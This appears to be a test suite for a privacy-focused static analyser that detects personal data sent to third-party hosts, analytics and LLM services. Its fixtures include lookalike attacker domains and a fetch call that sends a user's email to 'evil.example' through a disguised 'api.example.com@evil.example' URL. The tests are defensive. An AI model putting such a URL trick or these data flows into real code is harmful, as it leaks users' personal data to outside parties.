import assert from 'node:assert/strict';
import type { Engine, FileResult, GrammarId, Recipient, SyntaxRuntime } from '../../../src/engine/index.js';
import { isToBeReported, judged, recipientFault } from '../../../src/engine/findings/recipient.js';
import { AS_OF, createRuleRunner } from '../../support/ruleRunner.js';
import { createTestRuntime } from '../../support/syntaxRuntime.js';

const host = (name: string | null): Recipient => ({ kind: 'host', name });
const library = (name: string | null): Recipient => ({ kind: 'library', name });

describe('recipients that a list approves', () => {
  const CASES: readonly (readonly [entry: string, recipient: Recipient, language: string, isApproved: boolean])[] = [
    ['api.example.com', host('api.example.com'), 'python', true],
    ['API.Example.com', host('api.example.com'), 'python', true],
    ['example.com', host('api.example.com'), 'python', false],
    ['*.example.com', host('api.example.com'), 'java', true],
    ['*.example.com', host('a.b.example.com'), 'java', true],
    ['*.example.com', host('example.com'), 'java', false],
    ['*.example.com', host('.example.com'), 'java', false],
    ['*.example.com', host('evil-example.com'), 'java', false],
    ['example.com', host('evil-example.com'), 'java', false],
    ['example.com', host('example.com.evil.net'), 'java', false],
    ['*.example.com', host('api.example.com.evil.net'), 'java', false],
    ['api.example.com', host(null), 'python', false],
    ['@sentry/node', library('@sentry/node'), 'javascript', true],
    ['@sentry/*', library('@sentry/node'), 'typescript', true],
    ['@sentry/*', library('@sentry-evil/node'), 'typescript', false],
    ['@sentry/no', library('@sentry/node'), 'javascript', false],
    ['firebase', library('firebase/analytics'), 'javascript', true],
    ['socket', library('socket.io'), 'javascript', false],
    ['segment', library('segment.analytics'), 'python', true],
    ['segment', library('segments'), 'python', false],
    ['com.segment', library('com.segment.analytics'), 'java', true],
    ['com.seg', library('com.segment.analytics'), 'java', false],
    ['io.sentry', library(null), 'java', false],
    // a host is no library, and the other way round
    ['segment.analytics', library('analytics'), 'python', false],
  ];
  for (const [entry, recipient, language, isApproved] of CASES) {
    it(`${entry} ${isApproved ? 'approves' : 'does not approve'} ${recipient.kind} ${recipient.name} (${language})`, () => {
      assert.deepEqual(judged([recipient], [entry], language), [{ ...recipient, isApproved }]);
      assert.deepEqual(judged([recipient], ['other', entry], language), [{ ...recipient, isApproved }]);
      assert.deepEqual(judged([recipient], null, language), [{ ...recipient, isApproved: false }]);
    });
  }

  it('are reported where one of several is not on it', () => {
    const both = [library('openai'), library('groq')];
    assert.equal(isToBeReported(judged(both, ['openai', 'groq'], 'python'), true), false);
    assert.equal(isToBeReported(judged(both, ['openai'], 'python'), true), true);
    assert.equal(isToBeReported(judged(both, null, 'python'), false), true);
  });

  it('are reported as hosts where there is a list only', () => {
    assert.equal(isToBeReported(judged([host('a.example')], null, 'java'), false), false);
    assert.equal(isToBeReported(judged([host('a.example')], [], 'java'), true), true);
    assert.equal(isToBeReported(judged([host(null)], [], 'java'), true), true);
  });

  const FAULTS: readonly (readonly [entry: string, fault: RegExp | null])[] = [
    ['api.example.com', null],
    ['*.example.com', null],
    ['localhost', null],
    ['@sentry/node', null],
    ['@sentry/*', null],
    ['firebase/analytics', null],
    ['sentry_sdk', null],
    ['com.segment.analytics', null],
    ['$crisp', null],
    ['münchen.example', null],
    ['https://x.example', /is a URL/],
    ['two words', /has a space/],
    ['x.example:443', /has a port/],
    ['[::1]', /has a port|is no name/],
    ['*', /has a \* at a place/],
    ['*.*', /has a \* at a place/],
    ['api.*.com', /has a \* at a place/],
    ['*example.com', /has a \* at a place/],
    ['sentry*', /has a \* at a place/],
    ['^api[.]example', /is no name/],
    ['a|b', /is no name/],
    ['', /is no name/],
  ];
  for (const [entry, fault] of FAULTS) {
    it(`${JSON.stringify(entry)} is ${fault === null ? 'an entry' : 'none'}`, () => {
      const found = recipientFault(entry);
      if (fault === null) assert.equal(found, undefined);
      else assert.match(found ?? '', fault);
    });
  }
});

/** Files, with the rule and the recipients that each line has where the list is empty, and without a list. */
interface Sample {
  readonly grammar: GrammarId;
  readonly path: string;
  /** Lines; what is behind `//!` or `#!` is what is found there: `rule: recipients`. */
  readonly text: string;
}

const JAVASCRIPT: Sample = {
  grammar: 'javascript',
  path: 'a.js',
  text: `const Sentry = require('@sentry/node');
const { OpenAI } = require('openai');
const { logEvent } = require('firebase/analytics');
const axios = require('axios');
const https = require('https');
const openai = new OpenAI();
const api = axios.create({ baseURL: 'https://crm.example' });
const own = axios.create({ baseURL: 'http://users:8080' });
async function send(user, base, path) {
  Sentry.setUser({ email: user.email }); //! personal-data-to-third-party: @sentry/node
  await openai.chat.completions.create({ messages: [{ content: 'x ' + user.email }] }); //! personal-data-to-llm: openai
  logEvent(base, 'login', { email: user.email }); //! personal-data-in-analytics: firebase/analytics
  gtag('event', 'x', { email: user.email }); //! personal-data-in-analytics: gtag
  window.dataLayer.push({ email: user.email }); //! personal-data-in-analytics: dataLayer
  await fetch('https://API.example.com:8443/u', { method: 'POST', body: JSON.stringify({ email: user.email }) }); //! personal-data-to-third-party: api.example.com
  await fetch('https://api.example.com@evil.example/', { body: user.email }); //! personal-data-to-third-party: evil.example
  await fetch('//cdn.example/u', { body: user.email }); //! personal-data-to-third-party: cdn.example
  await fetch(\`https://eu.example.com/\${path}\`, { body: user.email }); //! personal-data-to-third-party: eu.example.com
  await fetch(\`https://eu.example.com\${path}\`, { body: user.email }); //! personal-data-to-third-party: ?
  await fetch(base + '/u', { body: user.email }); //! personal-data-to-third-party: ?
  await api.post('/u', { email: user.email }); //! personal-data-to-third-party: crm.example
  await axios.post(path ? 'https://one.example/' : 'https://two.example/', user.email); //! personal-data-to-third-party: one.example, two.example
  await axios({ method: 'post', url: 'https://three.example/', data: user.email }); //! personal-data-to-third-party: three.example
  const request = https.request({ hostname: 'seven.example', method: 'POST' });
  request.write(JSON.stringify({ email: user.email })); //! personal-data-to-third-party: seven.example
  https.request('https://eight.example/u', { method: 'POST' }).end(user.email); //! personal-data-to-third-party: eight.example
  https.request({ host: 'localhost', method: 'POST' }).end(user.email);
  await axios.create({ timeout: 5 }).post('/u', { email: user.email });
  await fetch('/api/u', { body: user.email });
  await fetch('http://localhost:3000/u', { body: user.email });
  await fetch('http://10.1.2.3/u', { body: user.email });
  await own.post('/u', { email: user.email });
  await fetch('https://api.example.com/u', { body: JSON.stringify({ id: user.id }) });
}
// one place, several callers
async function post(base, body) {
  return axios.post(base + '/x', body); //! personal-data-to-third-party: four.example, five.example
}
async function both(user) {
  await post('https://four.example', { email: user.email });
  await post('https://five.example', { phone: user.phoneNumber });
  await post('https://six.example', { day: user.day });
}
`,
};

const PYTHON: Sample = {
  grammar: 'python',
  path: 'a.py',
  text: `import http.client
import httpx
import requests
import sentry_sdk
from sentry_sdk import set_user
from segment import analytics
from openai import OpenAI
import urllib.request
client = OpenAI()
crm = httpx.Client(base_url="https://crm.example")

def send(user, base):
    sentry_sdk.set_user({"email": user.email})  #! personal-data-to-third-party: sentry_sdk
    set_user({"email": user.email})  #! personal-data-to-third-party: sentry_sdk
    analytics.identify(user.id, {"email": user.email})  #! personal-data-in-analytics: segment
    client.chat.completions.create(messages=[{"content": f"mail {user.email}"}])  #! personal-data-to-llm: openai
    requests.post("https://api.example.com/u", json={"email": user.email})  #! personal-data-to-third-party: api.example.com
    requests.Session().put("https://eu.example.com/u", data={"email": user.email})  #! personal-data-to-third-party: eu.example.com
    requests.request("POST", f"{base}/u", json={"email": user.email})  #! personal-data-to-third-party: ?
    crm.post("/u", json={"email": user.email})  #! personal-data-to-third-party: crm.example
    urllib.request.urlopen("https://old.example/u", data=user.email.encode())  #! personal-data-to-third-party: old.example
    connection = http.client.HTTPSConnection("nine.example:443")
    connection.request("POST", "/u", user.email)  #! personal-data-to-third-party: nine.example
    requests.post("http://users/u", json={"email": user.email})
    requests.post("https://api.example.com/u", json={"id": user.id})
`,
};

const JAVA: Sample = {
  grammar: 'java',
  path: 'A.java',
  text: `import com.segment.analytics.Analytics;
import com.segment.analytics.messages.TrackMessage;
import io.sentry.protocol.User;
import java.net.URI;
import java.net.http.HttpRequest;
import okhttp3.Request;
import okhttp3.RequestBody;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpMethod;
import org.springframework.web.client.RestTemplate;
import org.springframework.web.reactive.function.client.WebClient;
class A {
  private final RestTemplate client = new RestTemplate();
  void send(Customer customer, WebClient web, Analytics analytics, String base) {
    User user = new User();
    user.setEmail(customer.getEmail()); //! personal-data-to-third-party: io.sentry
    analytics.enqueue(TrackMessage.builder("x").userId(customer.getEmail())); //! personal-data-in-analytics: com.segment.analytics
    client.postForObject("https://api.example.com/u", customer.getEmail(), String.class); //! personal-data-to-third-party: api.example.com
    client.postForObject(base + "/u", customer.getEmail(), String.class); //! personal-data-to-third-party: ?
    HttpRequest.newBuilder(URI.create("https://eu.example.com/u")).header("a", "b").POST(HttpRequest.BodyPublishers.ofString(customer.getEmail())).build(); //! personal-data-to-third-party: eu.example.com
    web.post().uri("https://us.example.com/u").bodyValue(customer.getEmail()).retrieve(); //! personal-data-to-third-party: us.example.com
    new Request.Builder().url("https://ok.example/u").post(RequestBody.create(customer.getEmail(), null)).build(); //! personal-data-to-third-party: ok.example
    client.exchange("https://ex.example/u", HttpMethod.POST, new HttpEntity<>(customer.getEmail()), String.class); //! personal-data-to-third-party: ex.example
    client.postForObject("http://localhost:8080/u", customer.getEmail(), String.class);
    WebClient.create("https://ten.example").post().uri("/u").bodyValue(customer.getEmail()).retrieve(); //! personal-data-to-third-party: ten.example
    web.post().uri("/u").bodyValue(customer.getEmail()).retrieve();
    client.postForObject("https://api.example.com/u", customer.getId(), String.class);
  }
}
`,
};

describe('recipients of findings', () => {
  let engine: Engine;
  let runtime: SyntaxRuntime;

  before(async () => {
    runtime = await createTestRuntime(['javascript', 'python', 'java']);
    ({ engine } = await createRuleRunner([]));
  });

  function analyse({ grammar, path, text }: Sample, recipients?: readonly string[]): FileResult {
    const parsed = runtime.parse(grammar, text);
    assert.ok(parsed.ok);
    const rules = { settings: {}, options: {}, ...(recipients === undefined ? {} : { recipients }) };
    const [result] = engine.analyseTogether([engine.lower(parsed.tree, path)], { asOf: AS_OF, rulesFor: () => rules });
    return result;
  }

  const lines = (result: FileResult): string[] =>
    result.findings.flatMap(({ ruleId, location, recipients }) => {
      if (recipients === undefined) return [];
      return `${location.startLine} ${ruleId}: ${recipients.map(({ name }) => name ?? '?').join(', ')}`;
    });

  const expected = ({ text }: Sample): string[] =>
    text.split('\n').flatMap((line, index) => {
      const said = /[/#]!\s*(.*)$/.exec(line)?.[1];
      return said === undefined ? [] : `${index + 1} ${said}`;
    });

  for (const sample of [JAVASCRIPT, PYTHON, JAVA]) {
    it(`are named, and all reported where the list is empty: ${sample.path}`, () => {
      assert.deepEqual(lines(analyse(sample, [])), expected(sample));
    });

    it(`are reported without a list only as libraries: ${sample.path}`, () => {
      const all = analyse(sample, []).findings;
      const libraries = all.filter(({ recipients }) => recipients?.every(({ kind }) => kind === 'library') !== false);
      const { findings, transfers } = analyse(sample);
      assert.deepEqual(findings, libraries);
      assert.equal(transfers?.length, all.length - libraries.length);
      assert.ok(
        transfers.every((one) => one.recipients.every(({ kind, isApproved }) => kind === 'host' && !isApproved)),
      );
    });

    it(`are not reported where they are approved, and are kept apart: ${sample.path}`, () => {
      const all = analyse(sample, []).findings;
      const names = [...new Set(all.flatMap(({ recipients = [] }) => recipients.flatMap(({ name }) => name ?? [])))];
      for (const name of names) {
        const { findings, transfers = [] } = analyse(sample, [name]);
        const approved = all.filter(({ recipients }) => recipients?.every((one) => one.name === name) === true);
        // the others are as they were: place, fingerprint, number
        const left = all.filter((one) => !approved.includes(one));
        assert.deepEqual(
          findings.map(({ fingerprint, location }) => [fingerprint, location.start]),
          left.map(({ fingerprint, location }) => [fingerprint, location.start]),
        );
        assert.deepEqual(
          transfers.map(({ ruleId, location, dataTypes }) => [ruleId, location, dataTypes]),
          approved.map(({ ruleId, location, dataTypes }) => [ruleId, location, dataTypes]),
          name,
        );
      }
      // what nobody can name stays
      const { findings } = analyse(sample, names);
      assert.ok(findings.some(({ recipients }) => recipients?.some(({ name }) => name === null) === true));
      assert.ok(findings.every(({ recipients = [] }) => recipients.every(({ name }) => name === null)));
    });
  }

  it('are less certain where the address is computed', () => {
    const of = (text: string): (string | undefined)[] =>
      analyse({ grammar: 'javascript', path: 'a.js', text }, []).findings.map(({ confidence }) => confidence);
    assert.deepEqual(of("const f = (user) => fetch('https://a.example/', { body: user.email });"), ['high']);
    assert.deepEqual(of("const f = (user, at) => fetch(at + '/u', { body: user.email });"), ['medium']);
  });

  it('do not stand for a flaw of another kind: data in the address itself is reported all the same', () => {
    const text = "const f = (user) => fetch('https://a.example/?m=' + user.email, { body: user.email });";
    const ids = (list: readonly string[]): string[] =>
      analyse({ grammar: 'javascript', path: 'a.js', text }, list).findings.map(({ ruleId }) => ruleId);
    assert.deepEqual(ids([]), ['personal-data-in-url', 'personal-data-to-third-party']);
    assert.deepEqual(ids(['a.example']), ['personal-data-in-url']);
  });
});
